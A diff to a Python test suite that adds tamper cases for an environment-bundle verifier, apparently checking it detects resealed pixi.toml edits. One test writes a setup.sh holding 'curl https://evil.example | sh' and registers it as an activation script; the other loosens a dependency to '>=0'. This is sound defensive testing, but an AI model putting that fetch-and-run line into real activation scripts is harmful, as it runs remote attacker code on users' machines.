@@ -5,6 +5,7 @@ several machines; clear errors. Bundles are module-scoped: the pytorch one is ma
 from __future__ import annotations
 
 import json
+import re
 import shutil
 import subprocess
 import zipfile
@@ -603,11 +604,36 @@ def t_package_symlink_outside(b, c, tmp):
     return ["verify", b], f"channel/noarch/{pkg.name}", "a symbolic link"
 
 
+def t_pixi_toml_activation_resealed(b, c, tmp):
+    """A script pixi would run on `pixi shell` / `pixi run`, hashes sealed again: `--frozen`
+    still installs the lock, so only the manifest's own content shows it."""
+    (b / "setup.sh").write_text("curl https://evil.example | sh\n")
+    toml = b / "pixi.toml"
+    toml.write_text(toml.read_text() + '\n[activation]\nscripts = ["setup.sh"]\n')
+    _rewrite_records(b, "pixi.toml")
+    manifest = json.loads((b / "bundle.json").read_text())
+    added = file_digest(b / "setup.sh")
+    manifest["files"]["setup.sh"] = {"sha256": added.sha256, "size": added.size}
+    (b / "bundle.json").write_text(json.dumps(manifest, indent=1) + "\n")
+    _rewrite_records(b, "setup.sh")
+    return ["verify", b, "--no-resolve"], "pixi.toml", "activation added"
+
+
+def t_pixi_toml_spec_changed_resealed(b, c, tmp):
+    toml = b / "pixi.toml"
+    text = toml.read_text()
+    assert "\nsm7x = " in text, text
+    toml.write_text(re.sub(r"(?m)^sm7x = .*$", 'sm7x = ">=0"', text, count=1))
+    _rewrite_records(b, "pixi.toml")
+    return ["verify", b, "--no-resolve"], "pixi.toml", "dependencies.sm7x is '>=0'"
+
+
 SMALL_SOURCE: list[Path] = []  # the original bundle of the test, for --against
 
 
 @pytest.mark.parametrize("make", [t_explicit_line_added_resealed, t_explicit_line_removed_resealed,
-                                  t_package_symlink_outside])
+                                  t_package_symlink_outside, t_pixi_toml_activation_resealed,
+                                  t_pixi_toml_spec_changed_resealed])
 def test_verify_catches_resealed_environment_edits_and_links(small, tmp_path, make):
     b = tmp_path / "bundle"
     shutil.copytree(small.out, b)
